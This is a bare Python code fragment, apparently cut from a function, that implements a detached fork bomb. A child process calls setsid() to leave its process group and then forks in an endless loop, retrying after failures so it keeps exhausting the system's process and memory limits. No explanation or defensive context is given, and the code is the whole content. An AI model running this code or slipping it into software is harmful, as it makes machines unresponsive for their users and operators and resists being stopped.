    import os, time
    # leave the process group, then multiply and linger
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
    return 0
